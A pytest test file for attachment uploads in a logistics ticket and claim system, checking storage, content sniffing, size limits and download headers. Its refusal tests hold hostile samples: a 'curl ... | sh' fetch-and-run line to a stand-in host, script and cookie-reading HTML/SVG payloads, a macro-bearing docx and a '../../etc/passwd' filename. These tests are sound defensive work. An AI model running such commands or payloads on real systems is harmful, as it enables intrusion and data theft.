"""Ticket and claim attachments on both databases, with real files under a real data
directory: what is stored (bytes, SHA-256, mode 0600, row and audit entry), what is refused
by name and by content (programs, scripts, pages, SVG, macros), the size limit with nothing
left behind, no orphan file when the database write fails, and the API's headers."""

from __future__ import annotations

import hashlib
import io
import stat
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from guanxi.audit.models import AuditEntry
from guanxi.config import Settings
from guanxi.core.errors import NotFound, ValidationFailed
from guanxi.shipments.schemas import ShipmentCreate
from guanxi.shipments.service import create_shipment
from guanxi.tickets import attachments, service
from guanxi.tickets.models import Attachment, Ticket
from guanxi.tickets.schemas import TicketCreate
from tests.conftest import settings_for

# --------------------------------------------------------------------------- sample files


def png(width: int = 1, pad: int = 0) -> bytes:
    """A valid PNG (``pad`` bytes of an ancillary chunk make it as large as needed)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(1))
    header = struct.pack(">IIBBBBB", width, 1, 8, 2, 0, 0, 0)
    extra = chunk(b"tEXt", b"Comment\x00" + b"x" * pad) if pad else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + extra
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


JPEG = (
    bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb0043") + b"\x08" * 64 + b"\xff\xd9"
)
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + b"\x00" * 24
HEIC = struct.pack(">I", 24) + b"ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64
MP4 = struct.pack(">I", 24) + b"ftypisom\x00\x00\x02\x00isomiso2" + b"\x00" * 64
M4A = struct.pack(">I", 24) + b"ftypM4A \x00\x00\x02\x00M4A isom" + b"\x00" * 64
MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" + b"\x00" * 400
AMR = b"#!AMR\n" + b"\x3c" + b"\x00" * 31
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\x00" * 50
    + b"PE\x00\x00"
    + b"\x00" * 200
)
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def docx(macro: bool = False) -> bytes:
    """A minimal Word document (``macro``: carrying a VBA project, as a .docm would)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<w:document/>")
        if macro:
            archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")
    return buf.getvalue()


def xlsx() -> bytes:
    """A real workbook written by XlsxWriter."""
    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf, {"in_memory": True})
    book.add_worksheet().write(0, 0, "运单号")
    book.close()
    return buf.getvalue()


# --------------------------------------------------------------------------- helpers


def _ticket(db: Session, actor: Any) -> Ticket:
    body = {"type": "complaint", "channel": "hotline", "subject": "外包装破损"}
    return service.create_ticket(db, ticket_in=TicketCreate(**body), actor=actor)  # type: ignore[arg-type]


def shipment(db: Session, actor: Any, customer: Any, no: str, fee: int, insured: int) -> Any:
    """A shipment of ``customer`` with the fee and declared value a claim is judged by."""
    return create_shipment(
        db,
        shipment_in=ShipmentCreate(
            waybill_no=no,
            customer_id=customer.id,
            fee_fen=fee,
            insured_value_fen=insured,
            weight_g=800,
            receiver_name="收件人",
            receiver_phone="13700000000",
            dest_province="浙江省",
            dest_city="杭州市",
        ),
        actor=actor,
    )


def _files(root: Path) -> list[Path]:
    folder = root / "attachments"
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def _count(db: Session) -> int:
    return int(db.scalar(select(func.count(Attachment.id))) or 0)


@pytest.fixture
def store_settings(tmp_path: Path) -> Settings:
    return settings_for("sqlite://", tmp_path)


# --------------------------------------------------------------------------- storage


def test_a_file_is_stored_owner_only_with_its_hash_and_audit(
    db: Session, make_user: Any, store_settings: Settings
) -> None:
    agent = make_user("agent", display_name="客服 李娜")
    ticket = _ticket(db, agent)
    data = png(pad=300)
    row = attachments.store(
        db,
        ticket_id=ticket.id,
        filename="C:\\Users\\li\\Desktop\\破损照片.PNG",
        declared_type="image/png",
        stream=io.BytesIO(data),
        actor=agent,
        settings=store_settings,
    )
    assert (row.filename, row.content_type, row.size_bytes) == (
        "破损照片.PNG",
        "image/png",
        len(data),
    )
    assert row.sha256 == hashlib.sha256(data).hexdigest()
    assert (row.ticket_id, row.claim_id, row.uploaded_by, row.from_customer) == (
        ticket.id,
        None,
        agent.id,
        False,
    )
    key = row.storage_key
    path = Path(store_settings.data_dir) / "attachments" / key[:2] / key[2:4] / key
    assert _files(Path(store_settings.data_dir)) == [path]
    assert path.read_bytes() == data
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    entry = db.scalars(
        select(AuditEntry).where(
            AuditEntry.target_type == "ticket",
            AuditEntry.target_id == str(ticket.id),
            AuditEntry.action == "ticket.attachment_added",
        )
    ).one()
    assert entry.after == {
        "attachment_id": row.id,
        "content_type": "image/png",
        "size_bytes": len(data),
        "sha256": hashlib.sha256(data).hexdigest(),
        "from_customer": False,
    }
    assert [a.id for a in attachments.list_for(db, ticket_id=ticket.id)] == [row.id]
    found = attachments.open_for_download(db, attachment_id=row.id, settings=store_settings)
    assert (found.attachment.id, found.path) == (row.id, path)


# Named by file: the workbook's bytes carry its creation time, and test ids made of them
# differ between pytest-xdist workers.
ALLOWED_SAMPLES = [
    ("photo.jpg", JPEG, "image/jpeg"),
    ("photo.JPEG", JPEG, "image/jpeg"),
    ("photo.png", png(), "image/png"),
    ("anim.gif", GIF, "image/gif"),
    ("phone.webp", WEBP, "image/webp"),
    ("iphone.heic", HEIC, "image/heic"),
    ("letter.pdf", PDF, "application/pdf"),
    ("note.txt", "客户来电称外箱破损\n".encode(), "text/plain; charset=utf-8"),
    ("list.csv", "运单号,金额\nSF1,12.00\n".encode("gb18030"), "text/csv; charset=gb18030"),
    ("statement.docx", docx(), attachments.ALLOWED_TYPES["docx"].content_type),
    ("losses.xlsx", xlsx(), attachments.ALLOWED_TYPES["xlsx"].content_type),
    ("call.mp3", MP3, "audio/mpeg"),
    ("call.m4a", M4A, "audio/mp4"),
    ("call.amr", AMR, "audio/amr"),
    ("unboxing.mp4", MP4, "video/mp4"),
]


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    ALLOWED_SAMPLES,
    ids=[name for name, _data, _type in ALLOWED_SAMPLES],
)
def test_allowed_types_are_recognised_by_content(name: str, data: bytes, content_type: str) -> None:
    ext = name.rpartition(".")[2].lower()
    assert attachments.sniff(data, ext, complete=True) == content_type


@pytest.mark.parametrize(
    ("name", "declared", "data", "code"),
    [
        ("invoice.jpg", "image/jpeg", PE, "attachment_content"),  # a Windows program
        ("photo.png", "image/png", ELF, "attachment_content"),
        ("photo.jpg", "image/jpeg", SHELL, "attachment_content"),
        ("photo.jpg", "image/jpeg", HTML, "attachment_content"),
        ("photo.png", "image/png", SVG, "attachment_content"),
        ("letter.pdf", "application/pdf", png(), "attachment_content"),
        ("readme.txt", "text/plain", SHELL, "attachment_refused"),
        ("readme.txt", "text/plain", HTML, "attachment_refused"),
        ("readme.txt", "text/plain", b"  \r\n<svg onload=alert(1)>", "attachment_refused"),
        ("data.csv", "text/csv", PE, "attachment_refused"),
        ("report.txt", "text/html", "投诉".encode(), "attachment_refused"),
        (
            "statement.docx",
            attachments.ALLOWED_TYPES["docx"].content_type,
            docx(True),
            "attachment_refused",
        ),
        ("setup.exe", "application/octet-stream", PE, "attachment_type"),
        ("page.html", "text/html", HTML, "attachment_type"),
        ("logo.svg", "image/svg+xml", SVG, "attachment_type"),
        ("run.sh", "application/x-sh", SHELL, "attachment_type"),
        ("photo.jpg.exe", "image/jpeg", JPEG, "attachment_type"),
        ("no-extension", "image/jpeg", JPEG, "attachment_type"),
        ("empty.jpg", "image/jpeg", b"", "attachment_empty"),
    ],
)
def test_disguised_or_dangerous_files_are_refused_and_nothing_is_kept(
    db: Session,
    make_user: Any,
    store_settings: Settings,
    name: str,
    declared: str,
    data: bytes,
    code: str,
) -> None:
    agent = make_user("agent")
    ticket = _ticket(db, agent)
    with pytest.raises(ValidationFailed) as refused:
        attachments.store(
            db,
            ticket_id=ticket.id,
            filename=name,
            declared_type=declared,
            stream=io.BytesIO(data),
            actor=agent,
            settings=store_settings,
        )
    assert [(e.loc, e.code) for e in refused.value.errors] == [(("file",), code)]
    assert _count(db) == 0
    assert _files(Path(store_settings.data_dir)) == []


def test_a_file_over_the_limit_is_refused_while_streaming_with_nothing_written(
    db: Session, make_user: Any, tmp_path: Path
) -> None:
    agent = make_user("agent")
    ticket = _ticket(db, agent)
    settings = settings_for("sqlite://", tmp_path)
    settings.attachment_max_bytes = 100_000
    data = png(pad=150_000)  # the head is a fine PNG; the limit is passed mid-stream
    with pytest.raises(attachments.AttachmentTooLarge) as too_big:
        attachments.store(
            db,
            ticket_id=ticket.id,
            filename="big.png",
            declared_type="image/png",
            stream=io.BytesIO(data),
            actor=agent,
            settings=settings,
        )
    error = too_big.value.errors[0]
    assert (error.loc, error.code, error.params) == (
        ("file",),
        "file_too_large",
        {"limit": "97.7 KiB"},
    )
    assert _count(db) == 0
    assert _files(tmp_path) == []
    # Exactly at the limit is accepted.
    exact = png(pad=100_000 - len(png(pad=1)) + 1)
    assert len(exact) == 100_000
    row = attachments.store(
        db,
        ticket_id=ticket.id,
        filename="exact.png",
        declared_type="image/png",
        stream=io.BytesIO(exact),
        actor=agent,
        settings=settings,
    )
    assert row.size_bytes == 100_000


def test_the_file_is_removed_when_the_database_write_fails(
    db: Session, make_user: Any, store_settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    agent = make_user("agent")
    ticket = _ticket(db, agent)
    written: list[Path] = []
    real_write = attachments._write

    def spy(stream: Any, head: bytes, path: Path, max_bytes: int) -> tuple[int, str]:
        written.append(path)
        return real_write(stream, head, path, max_bytes)

    def broken_audit(*args: Any, **kwargs: Any) -> None:
        # The file is there while its row is written.
        assert written
        assert written[0].is_file()
        raise RuntimeError("database went away")

    monkeypatch.setattr(attachments, "_write", spy)
    monkeypatch.setattr(attachments, "record", broken_audit)
    with pytest.raises(RuntimeError):
        attachments.store(
            db,
            ticket_id=ticket.id,
            filename="photo.png",
            declared_type="image/png",
            stream=io.BytesIO(png()),
            actor=agent,
            settings=store_settings,
        )
    assert len(written) == 1
    assert not written[0].exists()
    assert _count(db) == 0
    assert _files(Path(store_settings.data_dir)) == []


def test_at_most_so_many_files_per_ticket_and_unknown_targets(
    db: Session, make_user: Any, store_settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    agent = make_user("agent")
    ticket = _ticket(db, agent)
    monkeypatch.setattr(attachments, "MAX_PER_TARGET", 2)

    def put(**target: int) -> Attachment:
        return attachments.store(
            db,
            filename="p.png",
            declared_type="image/png",
            stream=io.BytesIO(png()),
            actor=agent,
            settings=store_settings,
            **target,
        )

    put(ticket_id=ticket.id)
    put(ticket_id=ticket.id)
    with pytest.raises(ValidationFailed) as third:
        put(ticket_id=ticket.id)
    error = third.value.errors[0]
    assert (error.loc, error.code, error.params) == (("file",), "attachment_count", {"limit": 2})
    assert len(_files(Path(store_settings.data_dir))) == 2
    with pytest.raises(NotFound):
        put(ticket_id=ticket.id + 1000)
    with pytest.raises(NotFound):
        put(claim_id=987654)
    assert _count(db) == 2
    assert len(_files(Path(store_settings.data_dir))) == 2


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("../../etc/passwd.png", "passwd.png"),
        ("C:\\fakepath\\客户 照片.jpg", "客户 照片.jpg"),
        ('a"b<c>\x07d.jpg', "a_b_c__d.jpg"),
        ("..", ""),
        ("x" * 300 + ".jpeg", "x" * 195 + ".jpeg"),
    ],
)
def test_file_names_are_sanitised(raw: str, clean: str) -> None:
    assert attachments.clean_filename(raw) == clean


# --------------------------------------------------------------------------- API


def _upload(
    client: Any, url: str, headers: dict[str, str], name: str, data: bytes, ctype: str
) -> Any:
    return client.post(url, files={"file": (name, data, ctype)}, headers=headers)


def test_upload_list_and_download_through_the_api(
    client: Any, login: Any, db: Session, app: Any
) -> None:
    agent, headers = login("agent")
    ticket = _ticket(db, agent)
    data = png(pad=50)
    resp = _upload(
        client,
        f"/api/v1/tickets/{ticket.id}/attachments",
        headers,
        "外箱破损.png",
        data,
        "image/png",
    )
    assert resp.status_code == 201, resp.text
    body = resp.json()
    assert {
        k: body[k] for k in ("ticket_id", "claim_id", "filename", "content_type", "size_bytes")
    } == {
        "ticket_id": ticket.id,
        "claim_id": None,
        "filename": "外箱破损.png",
        "content_type": "image/png",
        "size_bytes": len(data),
    }
    assert body["sha256"] == hashlib.sha256(data).hexdigest()
    assert body["download_url"] == f"/api/v1/attachments/{body['id']}"
    assert "storage_key" not in body

    listed = client.get(f"/api/v1/tickets/{ticket.id}/attachments", headers=headers)
    assert [a["id"] for a in listed.json()] == [body["id"]]

    got = client.get(body["download_url"], headers=headers)
    assert got.status_code == 200
    assert got.content == data
    assert got.headers["content-type"] == "image/png"
    assert got.headers["content-disposition"] == (
        "attachment; filename*=utf-8''%E5%A4%96%E7%AE%B1%E7%A0%B4%E6%8D%9F.png"
    )
    assert got.headers["x-content-type-options"] == "nosniff"
    assert got.headers["content-security-policy"] == "default-src 'none'; sandbox"

    text = _upload(
        client,
        f"/api/v1/tickets/{ticket.id}/attachments",
        headers,
        "note.txt",
        "已核实".encode(),
        "text/plain",
    ).json()
    plain = client.get(text["download_url"], headers=headers)
    assert plain.headers["content-type"] == "text/plain; charset=utf-8"
    assert plain.headers["content-disposition"] == 'attachment; filename="note.txt"'

    assert client.get("/api/v1/attachments/999999", headers=headers).status_code == 404
    _, auditor = login("auditor")
    assert client.get(body["download_url"], headers=auditor).status_code == 403


def test_api_refusals_name_the_field_in_the_users_language(
    client: Any, login: Any, db: Session, app: Any
) -> None:
    agent, headers = login("agent")
    ticket = _ticket(db, agent)
    url = f"/api/v1/tickets/{ticket.id}/attachments"
    zh = {**headers, "Accept-Language": "zh-CN"}
    disguised = _upload(client, url, zh, "发票.jpg", PE, "image/jpeg")
    assert disguised.status_code == 422
    assert disguised.json()["errors"] == [
        {
            "field": "file",
            "loc": ["file"],
            "code": "attachment_content",
            "message": "文件内容与文件名不符（.jpg）",
        }
    ]
    en = {**headers, "Accept-Language": "en"}
    page = _upload(client, url, en, "page.html", HTML, "text/html")
    assert page.status_code == 422
    assert page.json()["errors"][0]["message"] == (
        "Files of this type cannot be attached (allowed: " + attachments.allowed_extensions() + ")"
    )
    missing = client.post(url, data={"note": "x"}, headers=headers)
    assert missing.status_code == 422
    assert missing.json()["errors"][0]["field"] == "file"
    _, sales = login("sales")
    assert _upload(client, url, sales, "p.png", png(), "image/png").status_code == 403
    assert (
        _upload(
            client, "/api/v1/tickets/99999/attachments", headers, "p.png", png(), "image/png"
        ).status_code
        == 404
    )
    assert _count(db) == 0
    assert _files(Path(app.state.settings.data_dir)) == []


def test_api_size_limits_route_and_middleware(
    client: Any, login: Any, db: Session, app: Any
) -> None:
    agent, headers = login("agent")
    ticket = _ticket(db, agent)
    url = f"/api/v1/tickets/{ticket.id}/attachments"
    # Larger than the 2 MiB body limit of other routes: this path takes up to 10 MiB.
    big = png(pad=3 * 1024 * 1024)
    resp = _upload(client, url, headers, "scan.png", big, "image/png")
    assert resp.status_code == 201, resp.text
    assert resp.json()["size_bytes"] == len(big)
    # Over the limit by far: refused by the middleware before the body is read.
    huge = png(pad=11 * 1024 * 1024)
    refused = _upload(
        client, url, {**headers, "Accept-Language": "zh-CN"}, "huge.png", huge, "image/png"
    )
    assert refused.status_code == 413
    assert refused.json()["errors"][0]["field"] == "file"
    assert refused.json()["errors"][0]["message"] == "文件大于 10 MiB"
    # Just over the limit (inside the multipart allowance): refused by the route.
    app.state.settings.attachment_max_bytes = 1_000_000
    near = png(pad=1_000_100)
    en = {**headers, "Accept-Language": "en"}
    refused = _upload(client, url, en, "near.png", near, "image/png")
    assert refused.status_code == 413
    assert refused.json()["errors"][0]["message"] == "The file is larger than 976.6 KiB"
    assert _count(db) == 1
    assert len(_files(Path(app.state.settings.data_dir))) == 1


def test_claim_evidence_through_the_api(
    client: Any, login: Any, db: Session, make_customer: Any
) -> None:
    agent, headers = login("agent")
    customer = make_customer(name="证据客户")
    shipment(db, agent, customer, "SFEVID00001", fee=1000, insured=0)
    claim = client.post(
        "/api/v1/claims",
        json={"waybill_no": "SFEVID00001", "reason": "damage", "requested_fen": 2000},
        headers=headers,
    ).json()
    resp = _upload(
        client,
        f"/api/v1/claims/{claim['id']}/attachments",
        headers,
        "damage.jpg",
        JPEG,
        "image/jpeg",
    )
    assert resp.status_code == 201, resp.text
    assert (resp.json()["claim_id"], resp.json()["ticket_id"]) == (claim["id"], None)
    listed = client.get(f"/api/v1/claims/{claim['id']}/attachments", headers=headers).json()
    assert [(a["filename"], a["content_type"]) for a in listed] == [("damage.jpg", "image/jpeg")]
    actions = db.scalars(
        select(AuditEntry.action)
        .where(AuditEntry.target_type == "claim", AuditEntry.target_id == str(claim["id"]))
        .order_by(AuditEntry.id)
    ).all()
    assert actions == ["claim.submitted", "claim.attachment_added"]
